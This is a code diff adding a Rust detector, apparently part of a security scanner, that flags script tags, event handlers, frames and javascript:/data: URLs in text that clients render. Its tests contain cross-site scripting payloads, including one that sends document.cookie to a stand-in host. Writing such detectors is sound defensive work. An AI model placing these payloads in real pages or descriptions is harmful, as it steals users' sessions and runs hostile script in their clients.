@@ -9,7 +9,7 @@ use regex::Regex;
 
 use super::{Sink, default_severity};
 use crate::analysis::catalogue::ids;
-use crate::analysis::collect::TextField;
+use crate::analysis::collect::{FieldKind, TextField};
 use crate::analysis::normalize::{
     Hidden, HiddenSource, Invisible, Prepared, evidence_window, truncate,
 };
@@ -17,6 +17,115 @@ use crate::analysis::report::Severity;
 
 static HTML_COMMENT: LazyLock<Regex> =
     LazyLock::new(|| Regex::new(r"(?s)<!--.*?(?:-->|$)").expect("valid regex"));
+
+/// Script-capable markup: a script element (with content and a closing tag,
+/// or a `src`: "all <script> tags are removed" only names the element), an
+/// event-handler attribute
+/// inside a tag, or a frame/object element that loads another document.
+static MARKUP: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r"(?i)(?P<script><\s*script\b[^<>]{0,400}>(?s:.)*?<\s*/\s*script|<\s*script\b[^<>]{0,400}\bsrc\s*=)|(?P<handler><[a-z][^<>]{0,400}?[\s/\x22'`]on[a-z]{3,24}\s*=)|(?P<frame><\s*(?:iframe|frame|object|embed|base|meta\s[^<>]{0,200}?http-equiv)\b)",
+    )
+    .expect("valid regex")
+});
+
+/// A `javascript:`/`vbscript:` URL (the scheme followed by something, so that
+/// "JavaScript: see the docs" and the list "file:/data:/javascript:/vbscript:"
+/// are prose; `javascript://` is a URL), also behind HTML entities for the
+/// colon, and `data:` URLs whose media type can carry script.
+static SCRIPT_URL: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r"(?i)(?P<js>\b(?:java|vb|live)[\t ]*script[\t ]*(?::|&colon;|&#0*58;?|&#x0*3a;?)(?:[^\s/,;)\]]|//))|(?P<data>\bdata:(?:text/html|text/javascript|image/svg\+xml|application/(?:x-)?(?:javascript|ecmascript|xhtml\+xml))\b)",
+    )
+    .expect("valid regex")
+});
+
+/// Cheap test before the markup regexes: a `<`, or a colon or entity after
+/// `script`/`data`.
+fn may_hold_markup(text: &str) -> bool {
+    let bytes = text.as_bytes();
+    if memchr::memchr2(b'<', b'&', bytes).is_some() {
+        return true;
+    }
+    memchr::memchr_iter(b':', bytes).any(|at| {
+        let ends_with = |word: &[u8]| {
+            at >= word.len() && bytes[at - word.len()..at].eq_ignore_ascii_case(word)
+        };
+        ends_with(b"script") || ends_with(b"data") || ends_with(b"script ")
+    })
+}
+
+/// Reports active markup and script URLs (GH-HID-008): clients render
+/// descriptions as markdown or HTML, where these run or mislead.
+fn markup(sink: &mut Sink<'_>, field: &TextField<'_>, text: &str) {
+    let uri = field.kind == FieldKind::Uri;
+    // A resource URI with a script or inline-data scheme is never a place
+    // to read from; `data:` of any type is flagged there.
+    if uri {
+        let scheme = text.trim_start().get(..11).unwrap_or(text.trim_start());
+        let lower = scheme.to_ascii_lowercase();
+        if lower.starts_with("javascript:") || lower.starts_with("vbscript:") {
+            sink.add(
+                ids::HID_MARKUP,
+                Severity::High,
+                field.target,
+                field.field,
+                "Script URL as a resource URI".into(),
+                evidence_window(text, 0..text.len().min(80)),
+            );
+            return;
+        }
+        if lower.starts_with("data:") {
+            sink.add(
+                ids::HID_MARKUP,
+                Severity::Medium,
+                field.target,
+                field.field,
+                "Inline data: URL as a resource URI".into(),
+                evidence_window(text, 0..text.len().min(80)),
+            );
+            return;
+        }
+    }
+    if !may_hold_markup(text) {
+        return;
+    }
+    if let Some(c) = MARKUP.captures(text) {
+        let (severity, what) = if c.name("script").is_some() {
+            (Severity::High, "A script element")
+        } else if c.name("handler").is_some() {
+            (Severity::High, "An event-handler attribute")
+        } else {
+            (Severity::Medium, "A frame, object or redirecting element")
+        };
+        let span = c.get(0).expect("whole match").range();
+        sink.add(
+            ids::HID_MARKUP,
+            severity,
+            field.target,
+            field.field,
+            format!("{what} in text that clients render as markdown or HTML"),
+            evidence_window(text, span),
+        );
+        return;
+    }
+    if let Some(c) = SCRIPT_URL.captures(text) {
+        let span = c.get(0).expect("whole match").range();
+        let what = if c.name("js").is_some() {
+            "A javascript: URL"
+        } else {
+            "A data: URL that can carry script"
+        };
+        sink.add(
+            ids::HID_MARKUP,
+            Severity::High,
+            field.target,
+            field.field,
+            format!("{what}: rendered as a link, it runs in the client"),
+            evidence_window(text, span),
+        );
+    }
+}
 
 /// Newlines in one whitespace run that count as padding whatever its length.
 const PADDING_NEWLINES: usize = 25;
@@ -124,6 +233,7 @@ pub fn check(sink: &mut Sink<'_>, field: &TextField<'_>, text: &Prepared<'_>, hi
             ),
         );
     }
+    markup(sink, field, text.original);
     if let Some((start, end)) = padding(text.original, sink.config().thresholds.padding_min_chars) {
         report(
             sink,
@@ -173,6 +283,76 @@ fn padding(text: &str, min_chars: usize) -> Option<(usize, usize)> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    fn markup_of(text: &str, kind: FieldKind) -> Vec<(Severity, String)> {
+        let config = crate::analysis::RulesConfig::default();
+        let mut sink = Sink::new(&config);
+        let target = crate::snapshot::Target::server();
+        let field = TextField {
+            target: &target,
+            field: "description",
+            text,
+            kind,
+        };
+        markup(&mut sink, &field, text);
+        sink.into_findings()
+            .into_iter()
+            .map(|f| (f.severity, f.evidence))
+            .collect()
+    }
+
+    #[test]
+    fn markup_that_runs_is_high() {
+        for text in [
+            "Lists files. <script>fetch('https://x.example/'+document.cookie)</script>",
+            "Shows a chart <img src=x onerror=alert(1)>",
+            "Open <a href=\"#\" onclick=\"steal()\">the docs</a>",
+            "See [the guide](javascript:alert(document.domain))",
+            "Click <a href='JaVaScRiPt&colon;void(0)'>here</a>",
+            "Preview at data:text/html;base64,PHNjcmlwdD4=",
+            "< SCRIPT >x()</ script>",
+            "Loads <script src=https://cdn.example/x.js></script> first",
+            "Go to javascript://%0aalert(1)",
+        ] {
+            let found = markup_of(text, FieldKind::Prose);
+            assert!(
+                found.iter().any(|(s, _)| *s == Severity::High),
+                "{text}: {found:?}"
+            );
+        }
+        assert_eq!(
+            markup_of("javascript:alert(1)", FieldKind::Uri)[0].0,
+            Severity::High
+        );
+        assert_eq!(
+            markup_of("data:text/plain,hello", FieldKind::Uri)[0].0,
+            Severity::Medium
+        );
+    }
+
+    #[test]
+    fn honest_markup_words_are_not_flagged() {
+        for text in [
+            "Runs a JavaScript: snippet in the sandbox and returns its output",
+            "Languages supported - JavaScript: yes, TypeScript: yes",
+            "Returns rows where value < 10 and the description contains on=true",
+            "Accepts a list of <tag> names such as <b> and <i>",
+            "Formats the data: a table with one row per item",
+            "Fetches the URL and converts the HTML to markdown (scripts and styles are stripped)",
+            "Parameter: script - the shell script to run",
+            "Use a data: URI for small images",
+            "By default, all <script> tags are removed from the output",
+            "Rejected: file:/data:/javascript:/vbscript:/about: schemes",
+            "Writes the file at <path> with content <text>; 1 < 2",
+        ] {
+            assert!(
+                markup_of(text, FieldKind::Prose).is_empty(),
+                "{text}: {:?}",
+                markup_of(text, FieldKind::Prose)
+            );
+        }
+        assert!(markup_of("file:///etc/hosts", FieldKind::Uri).is_empty());
+    }
 
     #[test]
     fn padding_needs_text_after_it() {
